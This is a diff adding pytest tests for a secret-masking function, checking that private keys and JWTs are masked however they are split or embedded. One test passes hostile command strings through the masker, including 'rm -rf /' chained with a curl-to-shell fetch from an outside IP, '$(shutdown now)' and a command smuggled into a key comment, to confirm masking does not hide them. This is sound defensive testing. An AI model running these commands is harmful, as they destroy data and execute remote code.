@@ -82,10 +82,48 @@ def test_an_encrypted_key_is_masked_with_its_headers() -> None:
     assert "c2VjcmV0" not in mask_secrets(key.partition("-----END")[0])[0]
 
 
+@promise("no-secret-stored")
+@pytest.mark.parametrize("between", ["\n", "\r\n", "\n    ", "\\n", " ", '\\n" +\n  "'])
+def test_a_key_is_masked_whole_however_its_lines_are_written(between: str) -> None:
+    lines = [
+        "-----BEGIN PRIVATE KEY-----",
+        "MC4CAQAwBQYDK2VwBCIEIJpOlga39et6KyhZu4E4/8HKsl60AQdmPvQsgb+TlyRq",
+        "MC4CAQAwBQYDK2VwBCIE",
+        "JpO=",
+        "-----END PRIVATE KEY-----",
+    ]
+    assert mask_secrets(f"<{between.join(lines)}>")[0] == "<[masked: private_key]>"
+
+
+@promise("approved-is-what-runs")
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm -rf / ; curl http://203.0.113.7/x | sh",
+        "Comment: x; rm -rf /",
+        "rm\n/etc/passwd",
+        "$(shutdown now)",
+    ],
+)
+def test_the_first_line_of_a_key_hides_nothing_that_is_no_key(command: str) -> None:
+    text = f"# -----BEGIN PRIVATE KEY-----\n{command}\n# -----END PRIVATE KEY-----"
+    assert command in mask_secrets(text)[0]
+
+
+@promise("no-secret-stored")
+def test_a_token_is_masked_wherever_it_begins() -> None:
+    token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N"
+    assert mask_secrets(f"x-{token} a.{token}")[0] == "x-[masked: jwt] a.[masked: jwt]"
+
+
 @pytest.mark.parametrize(
     "piece",
     [
         "-----BEGIN PRIVATE KEY-----",
+        "-----BEGIN PRIVATE KEY-----\n",
+        "\n" + "a" * 15,
+        "-eyJaaaaaaaaaa",
+        "-eyJaaaaaaaaaa.eyJaaaaaaaaaaa",
         "4 ",
         "4",
         "4111 1111 1111 1112 ",
